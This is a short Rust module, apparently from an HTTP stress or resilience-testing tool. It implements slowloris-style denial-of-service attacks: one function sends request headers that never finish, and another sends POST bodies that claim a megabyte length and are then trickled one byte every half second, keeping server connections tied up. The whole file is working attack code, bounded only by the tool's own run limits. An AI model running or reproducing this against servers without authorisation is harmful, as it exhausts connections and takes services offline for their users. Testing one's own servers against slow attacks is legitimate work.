//! Sends heads and bodies byte by byte. Each occupies a connection, and a body also occupies its
//! request's place.

use std::time::Duration;

use super::attack::{Attack, Bounds};
use crate::http1::Endpoint;

/// Heads that do not end.
pub fn heads(endpoint: Endpoint, bounds: Bounds) -> Attack {
    trickle(endpoint, "GET / HTTP/1.1\r\nHost: x\r\nX-Slow: ".to_owned(), bounds)
}

/// POSTs whose bodies do not end.
pub fn bodies(endpoint: Endpoint, target: &str, bounds: Bounds) -> Attack {
    trickle(endpoint, format!("POST {target} HTTP/1.1\r\nHost: x\r\nContent-Length: 1000000\r\n\r\n"), bounds)
}

fn trickle(endpoint: Endpoint, begin: String, bounds: Bounds) -> Attack {
    Attack::start(bounds, move |shift| {
        let mut connection = endpoint.connect()?;
        connection.send(begin.as_bytes())?;
        shift.sent(1);
        while !shift.is_over() {
            shift.pause(PAUSE);
            connection.send(b"x")?;
        }
        Ok(())
    })
}

const PAUSE: Duration = Duration::from_millis(500);
